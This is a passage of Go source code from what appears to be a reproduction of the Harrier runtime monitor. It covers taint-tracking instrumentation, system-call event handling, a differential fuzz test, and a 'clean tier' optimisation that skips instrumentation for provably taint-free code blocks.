			fmt.Fprintf(&b, " mem=%d", a.MemBytes)
		}
		fmt.Fprintf(&b, " t=%d freq=%d", a.Time, a.Freq)
	case le.IO != nil:
		io := le.IO
		fmt.Fprintf(&b, "pid %d %s %s %s %q data=%v t=%d freq=%d",
			io.PID, io.Call, io.Dir, io.Resource.Type, io.Resource.Name,
			io.Data, io.Time, io.Freq)
		if io.Server {
			fmt.Fprintf(&b, " server=%q", io.ServerAddr)
		}
	}
	if le.Decision == secpert.Terminate {
		b.WriteString(" -> KILL")
	}
	return b.String()
}

// logAccess appends an access event to the log.
func (h *Harrier) logAccess(ev *events.Access, d secpert.Decision) {
	if !h.cfg.KeepEventLog {
		return
	}
	h.log = append(h.log, LogEntry{Seq: len(h.log) + 1, Access: ev, Decision: d})
}

// logIO appends an I/O event to the log.
func (h *Harrier) logIO(ev *events.IO, d secpert.Decision) {
	if !h.cfg.KeepEventLog {
		return
	}
	h.log = append(h.log, LogEntry{Seq: len(h.log) + 1, IO: ev, Decision: d})
}

// EventLog returns the recorded events in order.
func (h *Harrier) EventLog() []LogEntry { return h.log }

// Transcript renders the whole event log.
func (h *Harrier) Transcript() string {
	var b strings.Builder
	for _, le := range h.log {
		b.WriteString(le.String())
		b.WriteByte('\n')
	}
	return b.String()
}
