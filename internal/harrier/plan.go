package harrier

import (
	"fmt"
	"strings"

	"repro/internal/isa"
)

// InstrumentationPlan renders how Harrier instruments a code span,
// reproducing paper Figure 5: before each data-moving instruction a
// Track_DataFlow call is inserted, before each basic-block leader a
// Collect_BB_Frequency call, and before each int 0x80 a
// Monitor_SystemCalls call.
func InstrumentationPlan(s *isa.Span) string {
	var b strings.Builder
	for i, in := range s.Instrs {
		if s.BBLeader[i] == i {
			fmt.Fprintf(&b, "Call Collect_BB_Frequency\n")
		}
		if movesData(in.Op) {
			fmt.Fprintf(&b, "Call Track_DataFlow\n")
		}
		if in.Op == isa.INT {
			fmt.Fprintf(&b, "Call Monitor_SystemCalls\n")
		}
		fmt.Fprintf(&b, "%s\n", in)
	}
	return b.String()
}

// movesData reports whether the instruction moves or computes data
// and therefore receives a Track_DataFlow analysis call.
func movesData(op isa.Op) bool {
	switch op {
	case isa.MOV, isa.MOVB, isa.LEA,
		isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
		isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR,
		isa.NOT, isa.NEG, isa.INC, isa.DEC,
		isa.PUSH, isa.POP, isa.CPUID, isa.RDTSC:
		return true
	}
	return false
}
