package harrier

import (
	"errors"
	"testing"

	"repro/internal/isa"
	"repro/internal/taint"
)

// FuzzCleanReinstrument is the clean tier's re-instrumentation oracle:
// the same pseudo-random multi-block programs as FuzzTraceApply run
// once under the interpreter tier and once with summaries and traces
// installed at every leader and CleanThreshold=1, so blocks demote to
// the uninstrumented clean variant as soon as their footprint proves
// taint-free. Midway through — at a block boundary, the only
// architectural point where tiers are comparable — an external taint
// source floods pages inside the program's working window. The clean
// run's cached verdicts now cover stale pages; the page-flip seam
// (wired by hand here, as vos.Started would) must invalidate them
// before the next entry runs uninstrumented. Any verdict that survives
// the flip shows up as a shadow or register-tag divergence.
func FuzzCleanReinstrument(f *testing.F) {
	// The countdown loop: the block that demotes, re-validates after
	// the flip, and must come back instrumented.
	f.Add([]byte{
		0x00, 0x09, 0x48, 0x08,
		0x10, 0x01, 0x00, 0x00,
		0x19, 0x00, 0x00, 0x01,
	}, uint16(24))
	f.Add([]byte{0x02, 0x00, 0x00, 0x10, 0x18, 0x00, 0x00, 0x00}, uint16(1))
	f.Add([]byte{0x05, 0x09, 0x00, 0x20, 0x1a, 0x05, 0x00, 0x08}, uint16(3))
	f.Add([]byte{0x14, 0x03, 0x00, 0x00, 0x15, 0x01, 0x00, 0x00}, uint16(100))
	f.Add([]byte{0x09, 0x11, 0x00, 0x00, 0x16, 0x00, 0x00, 0x00, 0x1b, 0x02, 0x00, 0x00}, uint16(7))

	f.Fuzz(func(t *testing.T, data []byte, injectAt uint16) {
		span := buildTraceFuzzSpan(data)
		h := New(Config{Dataflow: true, CleanThreshold: 1}, nil)

		// Install the compiled tiers at every leader, as the tier state
		// machine would: a trace where one compiles, the bare summary
		// otherwise — both carry clean-tier footprints because the
		// compiling Harrier has the tier armed.
		installed := 0
		for i := range span.Instrs {
			if span.BBLeader[i] != i {
				continue
			}
			sum, ok := compileBlock(h.Store, span, i, h.binTag(span.Image), h.hwTag)
			if !ok {
				continue
			}
			head := &blockSummary{
				Summary: *sum,
				owner:   h,
				ctr:     new(int64),
				key:     bbKey{span.Image, span.Addr(i)},
			}
			head.clean.initFootprint(sum.ops)
			if tr := h.compileTrace(span, i, head); tr != nil {
				span.SetBBSummary(i, tr)
			} else {
				span.SetBBSummary(i, head)
			}
			installed++
		}
		if installed == 0 {
			return // nothing compiled: the clean tier can't engage
		}

		const bound = 4096
		inject := uint64(injectAt)%(bound/2) + 1

		// The injected source: 16 bytes on one page plus 4 on the next,
		// landing inside the compared window the programs work in.
		tag := h.Store.Of(taint.Source{Type: taint.Socket, Name: "fuzz:recv"})
		var seed byte
		for _, b := range data {
			seed ^= b
		}
		base := uint32(seed) << 5 // 0..0x1FE0: pages 0-2 with the +0x1000 echo

		run := func(c *isa.CPU) (faulted, injected bool) {
			halted, f := runToBoundary(c, span, inject)
			if halted {
				return f, false
			}
			c.Shadow.SetRange(base, 16, tag)
			c.Shadow.SetRange(base+0x1000, 4, tag)
			_, f = runToBoundary(c, span, bound)
			return f, true
		}

		cA := newFuzzCPU(span, h.Store, data)
		cA.Hooks.OnInstr = h.trackDataFlow
		cA.Hooks.OnInstrData = true
		faultA, injA := run(cA)

		cB := newFuzzCPU(span, h.Store, data)
		cB.Hooks.OnInstr = h.trackDataFlow
		cB.Hooks.OnInstrData = true
		cB.Hooks.OnBBSummary = h.onBBSummary
		cB.Shadow.OnPageFlip(h.onPageFlip) // the seam vos.Started installs
		faultB, injB := run(cB)

		if injA != injB {
			t.Fatalf("phase divergence: interp injected=%v, clean injected=%v", injA, injB)
		}
		if cA.Regs != cB.Regs || cA.EIP != cB.EIP || cA.Steps != cB.Steps ||
			cA.ZF != cB.ZF || cA.LT != cB.LT || faultA != faultB {
			t.Fatalf("concrete divergence:\n  interp: regs %v eip %#x steps %d zf %v lt %v fault %v\n"+
				"  clean:  regs %v eip %#x steps %d zf %v lt %v fault %v",
				cA.Regs, cA.EIP, cA.Steps, cA.ZF, cA.LT, faultA,
				cB.Regs, cB.EIP, cB.Steps, cB.ZF, cB.LT, faultB)
		}
		if faultA {
			return // over-applied flows are unobservable after a fault
		}
		if cA.RegTags != cB.RegTags {
			t.Fatalf("register tag divergence: interp %v, clean %v", cA.RegTags, cB.RegTags)
		}
		for addr := uint32(0); addr < 0x3000; addr++ {
			if ta, tb := cA.Shadow.Get(addr), cB.Shadow.Get(addr); ta != tb {
				t.Fatalf("shadow divergence at %#x: interp tag%d, clean tag%d", addr, ta, tb)
			}
		}
	})
}

// runToBoundary drives the CPU like runBudgeted but stops at the first
// block boundary at or after `until` retired steps: both differential
// runs pause at the same architectural point regardless of tier,
// because blocks apply atomically and every trace exit lands on a
// block entry. `halted` reports HLT, a fault, or the program leaving
// the span — anywhere further stepping is pointless.
func runToBoundary(c *isa.CPU, span *isa.Span, until uint64) (halted, faulted bool) {
	step := func() (stop, faulted bool) {
		err := c.Step()
		if err == nil {
			return false, false
		}
		var f *isa.Fault
		return true, errors.As(err, &f) // non-fault err is a clean HLT
	}
	for c.Steps < until {
		c.TraceBudget = int(until - c.Steps)
		if stop, f := step(); stop {
			return true, f
		}
	}
	c.TraceBudget = 0
	for extra := 0; extra < 64; extra++ {
		if !span.Contains(c.EIP) {
			return true, false // out of span: the next step faults in any tier
		}
		if idx := span.Index(c.EIP); span.BBLeader[idx] == idx {
			break // block boundary: comparison-valid stop
		}
		if stop, f := step(); stop {
			return true, f
		}
	}
	return false, false
}
