package harrier

import (
	"fmt"

	"repro/internal/events"
	"repro/internal/isa"
	"repro/internal/taint"
	"repro/internal/vos"
)

func procOf(c *isa.CPU) *vos.Process {
	p, _ := c.Ctx.(*vos.Process)
	return p
}

// SyscallEnter is Monitor_SystemCalls (paper Figure 5): it converts
// the decoded call into a Secpert event, sends it while the guest is
// paused, and maps the expert system's decision onto the OS verdict.
func (h *Harrier) SyscallEnter(p *vos.Process, sc *vos.SyscallCtx) vos.Verdict {
	freq, addr := h.context(p)
	age := p.Age()

	access := func(call string, ref events.Ref) vos.Verdict {
		h.stats.AccessEvents++
		ev := &events.Access{
			Call: call, PID: p.PID, Resource: ref,
			Time: age, Freq: freq, Addr: addr,
		}
		if call == "SYS_clone" || call == "SYS_fork" {
			ev.CloneCount, ev.CloneRate = h.recordClone(p)
		}
		return h.sendAccess(ev)
	}

	switch sc.Num {
	case vos.SysExecve:
		origin := h.sourcesAt(p, sc.PathPtr, sc.PathLen)
		if h.prov != nil {
			h.provExit(p, origin, fmt.Sprintf("execve %q", sc.Path))
		}
		return access("SYS_execve", events.Ref{
			Name:   sc.Path,
			Type:   taint.File,
			Origin: origin,
		})

	case vos.SysFork, vos.SysClone:
		return access(vos.SyscallName(sc.Num), events.Ref{})

	case vos.SysOpen, vos.SysCreat, vos.SysUnlink:
		return access(sc.Name, events.Ref{
			Name:   sc.Path,
			Type:   taint.File,
			Origin: h.sourcesAt(p, sc.PathPtr, sc.PathLen),
		})

	case vos.SysClose, vos.SysDup:
		if sc.Des == nil {
			return vos.Continue
		}
		return access(sc.Name, h.refOf(sc.Des))

	case vos.SysRead:
		return h.ioEvent(p, sc, events.Read, freq, addr, age)

	case vos.SysWrite:
		return h.ioEvent(p, sc, events.Write, freq, addr, age)

	case vos.SysSocketcall:
		return h.socketcallEnter(p, sc, freq, addr, age)

	case vos.SysBrk:
		if sc.Args[0] > sc.Prev {
			h.memBytes += int64(sc.Args[0] - sc.Prev)
		}
		h.stats.AccessEvents++
		ev := &events.Access{
			Call: "SYS_brk", PID: p.PID,
			Time: age, Freq: freq, Addr: addr,
			MemBytes: h.memBytes,
		}
		return h.sendAccess(ev)
	}
	return vos.Continue
}

func (h *Harrier) socketcallEnter(p *vos.Process, sc *vos.SyscallCtx, freq int64, addr string, age uint64) vos.Verdict {
	sock := sc.Sock
	if sock == nil {
		return vos.Continue
	}
	switch sock.Call {
	case vos.SockBind, vos.SockConnect:
		origin := h.sourcesAt(p, sock.AddrPtr, sock.AddrLen)
		if h.prov != nil {
			h.provExit(p, origin, fmt.Sprintf("%s %q", vos.SockName(sock.Call), sock.Addr))
		}
		// Record the address-name provenance on the descriptor so
		// later writes can classify their target (paper Table 2).
		if sc.Des != nil && p.CPU.Shadow != nil {
			sc.Des.OriginTag = p.CPU.Shadow.GetRange(sock.AddrPtr, sock.AddrLen)
		}
		h.stats.AccessEvents++
		ev := &events.Access{
			Call: "SYS_socketcall:" + vos.SockName(sock.Call),
			PID:  p.PID,
			Resource: events.Ref{
				Name: sock.Addr, Type: taint.Socket, Origin: origin,
			},
			Time: age, Freq: freq, Addr: addr,
		}
		return h.sendAccess(ev)

	case vos.SockAccept:
		// The accepted connection's identity came from the network.
		remote := taint.Source{Type: taint.Socket, Name: sock.Addr}
		if sock.Accepted != nil {
			sock.Accepted.OriginTag = h.Store.Of(remote)
		}
		h.stats.AccessEvents++
		ev := &events.Access{
			Call: "SYS_socketcall:accept",
			PID:  p.PID,
			Resource: events.Ref{
				Name: sock.Addr, Type: taint.Socket,
				Origin: []taint.Source{remote},
			},
			Time: age, Freq: freq, Addr: addr,
		}
		return h.sendAccess(ev)

	case vos.SockSend:
		return h.ioEvent(p, sc, events.Write, freq, addr, age)

	case vos.SockRecv:
		return h.ioEvent(p, sc, events.Read, freq, addr, age)
	}
	return vos.Continue
}

// ioEvent builds and sends a read/write event (paper §6.1.2 type 2).
func (h *Harrier) ioEvent(p *vos.Process, sc *vos.SyscallCtx, dir events.Dir, freq int64, addr string, age uint64) vos.Verdict {
	fd := sc.Des
	if fd == nil {
		return vos.Continue
	}
	h.stats.IOEvents++
	ev := &events.IO{
		Call:     sc.Name,
		PID:      p.PID,
		Dir:      dir,
		Resource: h.refOf(fd),
		Time:     age,
		Freq:     freq,
		Addr:     addr,
	}
	if dir == events.Write {
		ev.Data = h.sourcesAt(p, sc.Buf, sc.Len)
		if h.prov != nil {
			verb, fdn := "write", sc.FD
			if sc.Sock != nil {
				verb, fdn = "send", sc.Sock.FD
			}
			h.provExit(p, ev.Data, fmt.Sprintf("%s fd %d", verb, fdn))
		}
		n := sc.Len
		if n > 16 {
			n = 16
		}
		ev.Head = p.CPU.Mem.ReadBytes(sc.Buf, n)
	} else {
		ev.Data = []taint.Source{fd.Source()}
	}
	if fd.Server {
		ev.Server = true
		ev.ServerAddr = fd.ServerAddr
		ev.ServerOrigin = h.Store.Sources(fd.ServerOriginTag)
	}
	return h.sendIO(ev)
}

// refOf renders a descriptor as an event resource reference.
func (h *Harrier) refOf(fd *vos.FDesc) events.Ref {
	return events.Ref{
		Name:   fd.ResourceName(),
		Type:   fd.ResourceType(),
		Origin: h.Store.Sources(fd.OriginTag),
	}
}

// SyscallExit applies post-call taint effects: freshly opened
// resources remember their name provenance, and read data is tagged
// with its source (paper §7.1.1: "When data is being read from a file
// or socket and stored in memory, Harrier will tag that data with the
// appropriate data source").
func (h *Harrier) SyscallExit(p *vos.Process, sc *vos.SyscallCtx) {
	switch sc.Num {
	case vos.SysOpen, vos.SysCreat:
		if sc.Des != nil && p.CPU.Shadow != nil {
			sc.Des.OriginTag = p.CPU.Shadow.GetRange(sc.PathPtr, sc.PathLen)
		}

	case vos.SysRead:
		h.tagReadBuffer(p, sc)

	case vos.SysSocketcall:
		if sc.Sock != nil && sc.Sock.Call == vos.SockRecv {
			h.tagReadBuffer(p, sc)
		}
	}
}

func (h *Harrier) tagReadBuffer(p *vos.Process, sc *vos.SyscallCtx) {
	n := int32(sc.Result)
	if n <= 0 || sc.Des == nil || p.CPU.Shadow == nil {
		return
	}
	src := sc.Des.Source()
	tag := h.Store.Of(src)
	p.CPU.Shadow.SetRange(sc.Buf, uint32(n), tag)
	if h.prov != nil {
		h.provRead(p, sc, src)
	}
}

// recordClone updates the process-creation counters for the §4.2
// resource-abuse rules: total clones, and clones within the sliding
// rate window.
func (h *Harrier) recordClone(p *vos.Process) (count, rate int64) {
	h.cloneCount++
	now := p.OS.Clock
	h.cloneTimes = append(h.cloneTimes, now)
	cut := uint64(0)
	if now > h.cfg.CloneRateWindow {
		cut = now - h.cfg.CloneRateWindow
	}
	kept := h.cloneTimes[:0]
	for _, t := range h.cloneTimes {
		if t >= cut {
			kept = append(kept, t)
		}
	}
	h.cloneTimes = kept
	return h.cloneCount, int64(len(h.cloneTimes))
}
