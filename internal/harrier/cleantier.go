package harrier

import (
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/taint"
	"repro/internal/vos"
)

// This file is the fourth execution tier of the tiered taint engine:
// the *clean tier*, the dynamic form of taint-scoped partial
// instrumentation (PAPERS.md, Thakur 2024). The clean-taint gate in
// trace.go already skips taint transfer for traces whose effect was
// verified stationary — but its verdicts are keyed on the concrete
// *values* of the address-forming registers, so a loop that walks a
// moving pointer misses the gate on every entry and pays the full
// transfer forever, even though it never goes near a tag.
//
// The clean tier closes that hole with a value-INDEPENDENT proof.
// A compiled block or trace is demotable when its whole memory
// footprint is expressible as entry-register + displacement (the same
// symbolic-address property the summary compiler and the gate already
// establish). At entry, the footprint resolves to a small set of
// shadow pages; if every one of those pages holds no tainted byte,
// every load in the block reads the Empty tag — so each op's transfer
// can be checked for no-op-ness against the entry register tags
// alone, one compare or union per op, with zero shadow traffic:
//
//   - a load into a register is a no-op iff the register is untainted;
//   - a store of a register or immediate is a no-op iff the stored
//     tag is Empty (writing Empty over a clean page changes nothing);
//   - memory-to-memory moves over clean pages move Empty to Empty;
//   - register-to-register moves and unions are no-ops iff the
//     destination already carries the result.
//
// Each verified op leaves the tag state exactly as it found it, so by
// induction the entry tags stay valid for the whole list and any
// executed *prefix* of it — which is what makes the proof sound for
// traces, whose side exits and budget exits run prefixes. A passing
// proof is cached as a cleanEnt keyed on (shadow, entry register
// tags, resolved page set) and the block runs UNINSTRUMENTED: no
// shadow lookups, no unions, no per-instruction hooks — concrete
// semantics only (isa.SummaryClean for blocks, runTraceBare end-to-
// end for traces).
//
// Re-instrumentation is the correctness bar. A cached verdict can rot
// only when taint *arrives* at one of its footprint pages, and a page
// can only go dirty through a zero→nonzero population flip — the
// event taint.Shadow.FlipGen counts and Shadow.OnPageFlip reports
// synchronously. Every cleanEnt snapshots the flip generation (and
// Harrier's taint-source epoch, advanced by the vos TaintSource seam
// and by the flip listener); a probe whose snapshot is stale
// re-checks its pages directly via Shadow.PageClean and either
// refreshes or drops the entry (stats.Reinstrumented) — so the first
// block entry after taint lands is back on the instrumented tier,
// before a single op of it executes. Detections can therefore never
// be lost: the uninstrumented variant only ever runs under a live
// proof that the instrumented variant would have done nothing.
const (
	// cleanMaxFoot caps the footprint *intervals* a demotable block may
	// carry — one per base register (plus one for absolute operands),
	// each covering [lo,hi] of every displacement off that base, so an
	// unrolled superblock trace with hundreds of operands still
	// resolves in a handful of steps. cleanMaxPages caps the distinct
	// shadow pages a resolved footprint may touch; an interval wider
	// than the page budget fails resolution and the block simply stays
	// on its tier.
	cleanMaxFoot  = 10
	cleanMaxPages = 4
	// cleanWays is how many cached verdicts (distinct entry-tag /
	// page-set states) one block holds.
	cleanWays = 4
	// cleanMaxStrikes bounds failed demotion attempts per block: a
	// block whose proof keeps failing stops burning probe work.
	cleanMaxStrikes = 8
	// cleanPageShift converts an address to its shadow-page index;
	// must match taint.Shadow's page geometry (4 KiB).
	cleanPageShift = 12
)

// fpEnt is one base register's slice of a block's footprint in
// entry-relative form: every byte the block touches through this base
// lies in [entry value + lo, entry value + hi]. The interval is a
// conservative cover — untouched bytes between two operands are
// included — which is sound (it only ever demands MORE pages be
// clean) and keeps the footprint size O(bases), not O(operands).
type fpEnt struct {
	base   uint8 // entry register index, or sumNoBase for absolute
	lo, hi uint32
}

// cleanEnt is one cached clean verdict: with this shadow, these entry
// register tags and this resolved page set — all of them clean as of
// the snapshotted flip generation and source epoch — the block's
// whole taint transfer is a no-op.
type cleanEnt struct {
	sh    *taint.Shadow
	flip  uint64
	src   uint64
	nPg   int
	pages [cleanMaxPages]uint32
	tags  [isa.NumRegs]taint.Tag
}

// cleanState is the demotion state embedded in a blockSummary or
// blockTrace. ok is decided once at compile time (footprint
// expressible and within caps); ways fill as entry states prove
// clean and are replaced round-robin.
type cleanState struct {
	ok        bool
	announced bool // KindBBClean published (once per block)
	strikes   int8
	n         int // live ways
	rr        int // round-robin victim when full
	fp        []fpEnt
	ways      [cleanWays]cleanEnt
}

// initFootprint decides demotion eligibility from a symbolic op list
// (a summary's own ops, or the symbolic pass the trace compiler ran
// over its whole path): every memory operand widens its base
// register's interval, so the footprint stays small no matter how far
// the trace compiler unrolled.
func (cs *cleanState) initFootprint(ops []sumOp) {
	fp := make([]fpEnt, 0, cleanMaxFoot)
	add := func(base uint8, disp uint32, wide bool) bool {
		hi := disp
		if wide {
			hi += 3
		}
		for i := range fp {
			if fp[i].base == base {
				if disp < fp[i].lo {
					fp[i].lo = disp
				}
				if hi > fp[i].hi {
					fp[i].hi = hi
				}
				return true
			}
		}
		if len(fp) == cleanMaxFoot {
			return false
		}
		fp = append(fp, fpEnt{base: base, lo: disp, hi: hi})
		return true
	}
	for i := range ops {
		op := &ops[i]
		ok := true
		switch op.code {
		case cRegLoadW, cRegUnionLoadW:
			ok = add(op.bBase, op.bDisp, true)
		case cRegLoadB:
			ok = add(op.bBase, op.bDisp, false)
		case cStoreWReg, cStoreWTag, cMemUnionReg, cMemUnionTag:
			ok = add(op.aBase, op.aDisp, true)
		case cStoreBReg, cStoreBTag:
			ok = add(op.aBase, op.aDisp, false)
		case cMemUnionLoadW, cMemCopyW:
			ok = add(op.aBase, op.aDisp, true) && add(op.bBase, op.bDisp, true)
		case cMemCopyB:
			ok = add(op.aBase, op.aDisp, false) && add(op.bBase, op.bDisp, false)
		}
		if !ok {
			return // over the cap: ineligible, cs.ok stays false
		}
	}
	cs.fp = fp
	cs.ok = true
}

// addPage dedups pg into pages[:n], returning the new length and
// false when the distinct-page cap is hit.
func addPage(pages *[cleanMaxPages]uint32, n int, pg uint32) (int, bool) {
	for k := 0; k < n; k++ {
		if pages[k] == pg {
			return n, true
		}
	}
	if n == cleanMaxPages {
		return n, false
	}
	pages[n] = pg
	return n + 1, true
}

// resolvePages maps the footprint onto concrete shadow-page indices
// using the entry register values: each interval contributes every
// page from its first byte to its last. pages beyond the returned
// count stay zero, so whole-array compares between probes are exact.
func (cs *cleanState) resolvePages(c *isa.CPU, pages *[cleanMaxPages]uint32) (int, bool) {
	n := 0
	ok := true
	for i := range cs.fp {
		e := &cs.fp[i]
		var base uint32
		if e.base != sumNoBase {
			base = c.Regs[e.base]
		}
		first := (base + e.lo) >> cleanPageShift
		last := (base + e.hi) >> cleanPageShift
		if last-first >= cleanMaxPages {
			return 0, false // interval wider than the page budget
		}
		for pg := first; ; pg++ {
			if n, ok = addPage(pages, n, pg); !ok {
				return 0, false
			}
			if pg == last {
				break
			}
		}
	}
	return n, true
}

// lookup probes the cached ways for (sh, entry tags, page set). A hit
// with fresh epochs returns immediately; a hit with stale epochs
// re-checks the pages directly — still clean refreshes the snapshot,
// taint on a page drops the way (the re-instrumentation event).
// Returns whether a valid way matched.
func (cs *cleanState) lookup(h *Harrier, c *isa.CPU, sh *taint.Shadow, pages *[cleanMaxPages]uint32, nPg int) bool {
	for e := 0; e < cs.n; e++ {
		w := &cs.ways[e]
		if w.sh != sh || w.nPg != nPg || w.pages != *pages || w.tags != c.RegTags {
			continue
		}
		if w.flip == sh.FlipGen() && w.src == h.cleanEpoch {
			return true
		}
		for k := 0; k < nPg; k++ {
			if !sh.PageClean(pages[k]) {
				// Taint reached the footprint: drop the way and fall
				// back to the instrumented tier before anything runs.
				h.stats.Reinstrumented++
				cs.n--
				cs.ways[e] = cs.ways[cs.n]
				cs.ways[cs.n] = cleanEnt{}
				if cs.rr >= cleanWays {
					cs.rr = 0
				}
				if cs.strikes < cleanMaxStrikes {
					cs.strikes++
				}
				return false
			}
		}
		w.flip, w.src = sh.FlipGen(), h.cleanEpoch
		return true
	}
	return false
}

// install caches a fresh verdict, publishing the demotion event the
// first time this block ever goes clean.
func (cs *cleanState) install(h *Harrier, c *isa.CPU, sh *taint.Shadow, pages *[cleanMaxPages]uint32, nPg int, key bbKey) {
	var w *cleanEnt
	if cs.n < cleanWays {
		w = &cs.ways[cs.n]
		cs.n++
	} else {
		w = &cs.ways[cs.rr]
		cs.rr = (cs.rr + 1) % cleanWays
	}
	*w = cleanEnt{
		sh: sh, flip: sh.FlipGen(), src: h.cleanEpoch,
		nPg: nPg, pages: *pages, tags: c.RegTags,
	}
	cs.strikes = 0
	h.stats.CleanDemoted++
	if !cs.announced {
		cs.announced = true
		if h.bus != nil {
			if p := procOf(c); p != nil {
				h.bus.Publish(obs.Event{
					Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBClean,
					PID: int32(p.PID), Num: uint64(key.addr), Num2: uint64(nPg),
					Str: key.image,
				})
			}
		}
	}
}

// cleanProbeSum decides whether this summary entry runs on the clean
// tier: cached-way hit, or a fresh proof over the summary's op list.
func (h *Harrier) cleanProbeSum(c *isa.CPU, sum *blockSummary) bool {
	cs := &sum.clean
	sh := c.Shadow
	var pages [cleanMaxPages]uint32
	nPg, ok := cs.resolvePages(c, &pages)
	if !ok {
		return false
	}
	if cs.lookup(h, c, sh, &pages, nPg) {
		return true
	}
	if cs.strikes >= cleanMaxStrikes {
		return false
	}
	for k := 0; k < nPg; k++ {
		if !sh.PageClean(pages[k]) {
			cs.strikes++
			return false
		}
	}
	if !h.cleanOpsNoop(sum.ops, &c.RegTags) {
		cs.strikes++
		return false
	}
	cs.install(h, c, sh, &pages, nPg, sum.key)
	return true
}

// cleanProbeTrace is cleanProbeSum for a trace; the proof runs over
// the mop program (per instruction, in program order — the symbolic
// op list is fused across branch boundaries and only safe for the
// footprint, never for per-write verification of a path that can
// side-exit).
func (h *Harrier) cleanProbeTrace(c *isa.CPU, tr *blockTrace) bool {
	cs := &tr.clean
	sh := c.Shadow
	var pages [cleanMaxPages]uint32
	nPg, ok := cs.resolvePages(c, &pages)
	if !ok {
		return false
	}
	if cs.lookup(h, c, sh, &pages, nPg) {
		return true
	}
	if cs.strikes >= cleanMaxStrikes {
		return false
	}
	for k := 0; k < nPg; k++ {
		if !sh.PageClean(pages[k]) {
			cs.strikes++
			return false
		}
	}
	if !h.cleanMopsNoop(tr.mops, &c.RegTags) {
		cs.strikes++
		return false
	}
	cs.install(h, c, sh, &pages, nPg, tr.head.key)
	return true
}

// cleanOpsNoop proves a summary op list transfers nothing, given the
// entry register tags and an all-clean footprint (every load yields
// Empty; a store is a no-op iff it stores Empty). Each passing op
// leaves the tag state untouched, so checking every op against the
// entry tags is exact, not approximate.
func (h *Harrier) cleanOpsNoop(ops []sumOp, tags *[isa.NumRegs]taint.Tag) bool {
	st := h.Store
	for i := range ops {
		op := &ops[i]
		switch op.code {
		case cRegSet:
			if tags[op.dst] != op.tag {
				return false
			}
		case cRegCopy:
			if tags[op.dst] != tags[op.src] {
				return false
			}
		case cRegSetUnion:
			if tags[op.dst] != st.Union(op.tag, tags[op.src]) {
				return false
			}
		case cRegUnionReg:
			if tags[op.dst] != st.Union(tags[op.dst], tags[op.src]) {
				return false
			}
		case cRegUnionTag:
			if tags[op.dst] != st.Union(tags[op.dst], op.tag) {
				return false
			}
		case cRegLoadW, cRegLoadB:
			if tags[op.dst] != taint.Empty {
				return false
			}
		case cRegUnionLoadW:
			// unions a clean load into dst: no-op by definition
		case cStoreWReg, cStoreBReg, cMemUnionReg:
			if tags[op.src] != taint.Empty {
				return false
			}
		case cStoreWTag, cStoreBTag, cMemUnionTag:
			if op.tag != taint.Empty {
				return false
			}
		case cMemUnionLoadW, cMemCopyW, cMemCopyB:
			// clean-to-clean memory moves: Empty over Empty
		default:
			return false // unknown op: never demote
		}
	}
	return true
}

// cleanMopsNoop is the trace-side proof: every mop's taint transfer
// (see runTraceTaint) checked for no-op-ness against the entry tags
// under the clean-footprint assumption. Because the check is per
// instruction in program order and value-independent, it holds for
// every executed prefix — side exits, budget exits and faults
// included.
func (h *Harrier) cleanMopsNoop(mops []mop, tags *[isa.NumRegs]taint.Tag) bool {
	st := h.Store
	for i := range mops {
		op := &mops[i]
		switch op.code {
		case mBBEnter, mBr, mCmpRR, mCmpRI, mCmpRM, mCmpMR, mCmpMI, mCmpMM:
			// no taint effect
		case mMovRR, mMovbRR:
			if tags[op.reg] != tags[op.reg2] {
				return false
			}
		case mMovRI, mMovbRI:
			if tags[op.reg] != op.tag {
				return false
			}
		case mMovRM, mMovbRM, mPopR:
			if tags[op.reg] != taint.Empty {
				return false
			}
		case mMovMR, mMovbMR, mAluMR, mPushR:
			if tags[op.reg] != taint.Empty {
				return false
			}
		case mMovMI, mMovbMI, mAluMI, mPushI:
			// stores a compile-time BINARY tag: never clean
			return false
		case mMovMM, mMovbMM, mAluMM, mPushM, mAluRM:
			// loads union/store Empty over clean pages: no-op
		case mLea:
			t := op.tag
			if op.base2 != traceNoBase {
				t = st.Union(t, tags[op.base2])
			}
			if tags[op.reg] != t {
				return false
			}
		case mZeroR:
			if tags[op.reg] != taint.Empty {
				return false
			}
		case mAluRR:
			if tags[op.reg] != st.Union(tags[op.reg], tags[op.reg2]) {
				return false
			}
		case mAluRI:
			if tags[op.reg] != st.Union(tags[op.reg], op.tag) {
				return false
			}
		case mUnR:
			if isa.Op(op.aop) == isa.INC || isa.Op(op.aop) == isa.DEC {
				if tags[op.reg] != st.Union(tags[op.reg], op.tag) {
					return false
				}
			}
		case mUnM:
			if isa.Op(op.aop) == isa.INC || isa.Op(op.aop) == isa.DEC {
				return false // unions a BINARY tag into memory
			}
			// NOT/NEG re-store the loaded tag: Empty over a clean page
		case mCpuid:
			for _, r := range [...]uint8{uint8(isa.EAX), uint8(isa.EBX), uint8(isa.ECX), uint8(isa.EDX)} {
				if tags[r] != h.hwTag {
					return false
				}
			}
		case mRdtsc:
			if tags[isa.EAX] != h.hwTag || tags[isa.EDX] != h.hwTag {
				return false
			}
		default:
			return false // unknown mop: never demote
		}
	}
	return true
}

// TaintSource implements vos.TaintSourceMonitor: the kernel is about
// to deposit external data into guest memory. Advancing the source
// epoch forces every cached clean verdict to re-validate its pages on
// its next probe — defense in depth around the shadow's own page-flip
// seam, which fires when the deposit is actually tagged.
func (h *Harrier) TaintSource(p *vos.Process, sc *vos.SyscallCtx) {
	h.cleanEpoch++
}

// onPageFlip is the taint.Shadow listener: a page just went
// zero→nonzero, so any clean verdict whose footprint includes it is
// stale. The epoch bump invalidates lazily — the next probe of every
// entry re-checks its pages — which flushes affected entries strictly
// before the next block boundary, since probes happen at block entry.
func (h *Harrier) onPageFlip(idx uint32) {
	h.cleanEpoch++
}
