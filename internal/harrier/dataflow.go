package harrier

import (
	"repro/internal/isa"
	"repro/internal/taint"
)

// trackDataFlow is the Track_DataFlow analysis inserted before every
// data-moving instruction (paper Figure 5). It implements §7.3.1:
// destination tags become the union of the source-operand tags,
// immediates carry BINARY:<image of the instruction>, and CPUID/RDTSC
// outputs carry HARDWARE. Control-transfer instructions and flags are
// not tracked — implicit flows are out of scope, as in the prototype
// (§7.3 footnote 7).
//
// The dispatcher stays branch-light: it classifies the opcode and
// hands off to a small per-op-class helper. Each helper resolves a
// memory operand's effective address exactly once per instruction and
